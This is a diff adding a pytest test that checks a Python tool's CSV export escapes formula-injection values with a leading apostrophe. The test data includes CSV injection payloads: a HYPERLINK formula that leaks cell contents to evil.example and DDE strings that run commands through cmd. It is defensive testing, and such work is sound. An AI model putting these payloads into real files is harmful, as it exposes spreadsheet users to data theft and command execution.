@@ -281,3 +281,33 @@ def test_a_csv_cell_longer_than_csvs_default_limit_is_read(db: str, corpus: Path
     run("progress", "import", str(sheet), "--db", db)
     out, _ = run("show", "1", "--format", "json", "--db", db)
     assert json.loads(out)["progress"][0]["note"] == note
+
+
+FORMULAS = ("=HYPERLINK(\"http://evil.example/?\"&A1,\"点此\")", "+1+cmd|' /C calc'!A0",
+            "-2+cmd|' /C calc'!A0", "@SUM(1+1)")
+
+
+def test_targets_csv_neutralises_formulas(db: str, tmp_path: Path,
+                                          monkeypatch: pytest.MonkeyPatch) -> None:
+    """Issue 10: an indicator (from an import, or a supervisor's edit) that starts with = + - @
+    is written with a leading apostrophe, so a spreadsheet shows it instead of running it."""
+    def extract(text: str, **_: object) -> list:
+        return [make_target(indicator, str(k + 1), subject="江阴", quote=f"@{indicator}")
+                for k, indicator in enumerate(FORMULAS[:3])]
+
+    monkeypatch.setattr(taizhang.extract, "extract_targets", extract)
+    (tmp_path / "f.txt").write_text("公式文本", encoding="utf-8")
+    (tmp_path / "f.json").write_text('{"date": "2024-06-28", "region": "江苏省无锡市"}',
+                                     encoding="utf-8")
+    run("ingest", str(tmp_path / "f.txt"), "--db", db)
+    run("review", "3", "--set", f"indicator={FORMULAS[3]}", "--db", db)  # a supervisor's edit
+    out, _ = run("targets", "--format", "csv", "--db", db)
+    import csv
+    import io
+
+    rows = list(csv.DictReader(io.StringIO(out)))
+    assert [r["indicator"] for r in rows] == ["'" + f for f in (*FORMULAS[:2], FORMULAS[3])]
+    assert all(not r[k].startswith(("=", "+", "-", "@")) for r in rows for k in r)
+    assert [r["value"] for r in rows] == ["1", "2", "3"]  # numbers are left alone
+    records = json.loads(run("targets", "--format", "json", "--db", db)[0])
+    assert records[0]["indicator"] == FORMULAS[0] and records[0]["quote"] == "@" + FORMULAS[0]
